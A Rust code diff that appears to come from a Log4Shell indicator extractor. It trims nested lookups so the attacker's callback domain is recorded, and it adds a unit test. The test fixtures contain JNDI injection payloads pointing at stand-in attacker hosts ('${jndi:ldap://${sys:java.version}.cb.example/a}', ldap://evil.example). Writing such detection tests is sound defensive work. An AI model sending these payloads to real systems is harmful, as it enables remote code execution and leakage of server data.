@@ -142,6 +142,12 @@ pub fn extract(raw_record: &[u8], text: &str, jndi: Option<&JndiInfo>, commands:
 }
 
 fn add_host(out: &mut BTreeSet<IocRef>, host: &str, role: &'static str) {
+    // `${sys:java.version}.cb.example`: the lookup exfiltrates through DNS labels; the
+    // domain after the last unresolved lookup is the attacker's.
+    let host = match host.rfind('}') {
+        Some(p) if host.contains("${") => &host[p + 1..],
+        _ => host,
+    };
     let host = host.trim_matches(|c: char| c == '[' || c == ']' || c == '.').to_ascii_lowercase();
     if host.is_empty() || host.contains("${") {
         return;
@@ -219,6 +225,14 @@ mod tests {
         assert!(v.contains(&"Port:1389:callback".to_string()), "{v:?}");
         assert!(v.contains(&"Url:ldap://evil.example:1389/a:callback".to_string()), "{v:?}");
         assert!(!v.iter().any(|s| s.contains("97.0.4692")), "{v:?}");
+    }
+
+    #[test]
+    fn exfiltration_labels_leave_the_domain() {
+        let t = "${jndi:ldap://${sys:java.version}.cb.example/a}";
+        let j = super::super::jndi::evaluate(t).jndi.into_iter().next();
+        let v = vals(&extract(t.as_bytes(), t, j.as_ref(), &[]));
+        assert!(v.contains(&"Domain:cb.example:callback".to_string()), "{v:?}");
     }
 
     #[test]
